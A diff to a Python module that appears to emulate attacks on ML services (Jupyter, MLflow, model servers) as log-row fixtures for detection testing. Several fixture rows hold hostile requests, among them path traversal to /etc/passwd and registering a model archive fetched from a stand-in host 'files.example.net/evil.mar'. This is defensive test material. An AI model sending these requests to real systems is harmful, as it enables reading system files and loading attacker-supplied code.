@@ -3,9 +3,7 @@
 from typing import Final
 
 from caponier.emulate.attack_steps import hosts
-from caponier.emulate.attack_steps.attack_step import THIEF, AttackStep, Row, line, process, requested, written
-
-_DESK: Final = "10.8.0.21"
+from caponier.emulate.attack_steps.attack_step import DESK, THIEF, AttackStep, Row, line, process, requested, written
 
 
 def _jupyter(address: str, method: str, target: str, status: int = 201) -> Row:
@@ -31,7 +29,7 @@ CODE: Final = AttackStep(
         (requested(THIEF, "POST", "/api/v1/validate/code"),),
     ),
     (
-        (_jupyter(_DESK, "POST", "/api/kernels"),),
+        (_jupyter(DESK, "POST", "/api/kernels"),),
         (_jupyter(THIEF, "POST", "/api/kernels", 403),),
         (requested(THIEF, "GET", "/api/kernels"),),
         (requested(THIEF, "GET", "/hub/login"),),
@@ -50,10 +48,10 @@ FILES: Final = AttackStep(
         (requested(THIEF, "GET", "/static-files/..%2f..%2f..%2fetc/passwd"),),
     ),
     (
-        (requested(_DESK, "GET", "/get-artifact?path=model/MLmodel&run_uuid=1"),),
+        (requested(DESK, "GET", "/get-artifact?path=model/MLmodel&run_uuid=1"),),
         (requested(THIEF, "GET", "/get-artifact?path=../../etc/passwd", 400),),
-        (requested(_DESK, "GET", "/ajax-api/2.0/mlflow/artifacts/list?run_id=1&path=model..v2"),),
-        (requested(_DESK, "GET", "/docs/../index.html"),),
+        (requested(DESK, "GET", "/ajax-api/2.0/mlflow/artifacts/list?run_id=1&path=model..v2"),),
+        (requested(DESK, "GET", "/docs/../index.html"),),
     ),
 )
 
@@ -67,9 +65,9 @@ RIGHTS: Final = AttackStep(
         (requested(THIEF, "POST", "/ajax-api/3.0/mlflow/users/update-password"),),
     ),
     (
-        (requested(_DESK, "GET", "/api/2.0/mlflow/users/get?username=ada"),),
+        (requested(DESK, "GET", "/api/2.0/mlflow/users/get?username=ada"),),
         (requested(THIEF, "POST", "/api/2.0/mlflow/users/create", 403),),
-        (requested(_DESK, "POST", "/api/2.0/mlflow/runs/create"),),
+        (requested(DESK, "POST", "/api/2.0/mlflow/runs/create"),),
     ),
 )
 
@@ -83,9 +81,9 @@ FOREIGN: Final = AttackStep(
         (requested(THIEF, "POST", "/models?model_name=x&url=\\\\\\\\files.example.net\\\\evil.mar"),),
     ),
     (
-        (requested(_DESK, "POST", "/models?url=digits.mar&initial_workers=1"),),
+        (requested(DESK, "POST", "/models?url=digits.mar&initial_workers=1"),),
         (requested(THIEF, "POST", "/models?url=https://files.example.net/evil.mar", 403),),
-        (requested(_DESK, "GET", "/models?limit=10"),),
+        (requested(DESK, "GET", "/models?limit=10"),),
     ),
 )
 
@@ -104,9 +102,9 @@ MANAGED: Final = AttackStep(
         (requested(THIEF, "POST", "/api/2.0/mlflow/model-versions/transition-stage"),),
     ),
     (
-        (requested(_DESK, "GET", "/v2/repository/index"),),
-        (requested(_DESK, "POST", "/v2/repository/index"),),
-        (requested(_DESK, "POST", "/api/2.0/mlflow/model-versions/transition-stage"),),
+        (requested(DESK, "GET", "/v2/repository/index"),),
+        (requested(DESK, "POST", "/v2/repository/index"),),
+        (requested(DESK, "POST", "/api/2.0/mlflow/model-versions/transition-stage"),),
         (requested(THIEF, "DELETE", "/models/digits", 405),),
         (requested(THIEF, "POST", "/v2/models/digits/infer"),),
     ),
@@ -182,7 +180,7 @@ REACHED: Final = AttackStep(
     tuple(
         ({"TimeGenerated": None, "Type": "CommonSecurityLog", "DeviceAction": action, "SourceIP": source,
           "DestinationIP": "10.0.0.5", "DestinationPort": port, "DestinationHostName": "gpu-01.ml.example.org"},)
-        for source, port, action in ((_DESK, 22, "allow"), (THIEF, 22, "deny"), (THIEF, 443, "allow"))
+        for source, port, action in ((DESK, 22, "allow"), (THIEF, 22, "deny"), (THIEF, 443, "allow"))
     ),
 )  # fmt: skip
 
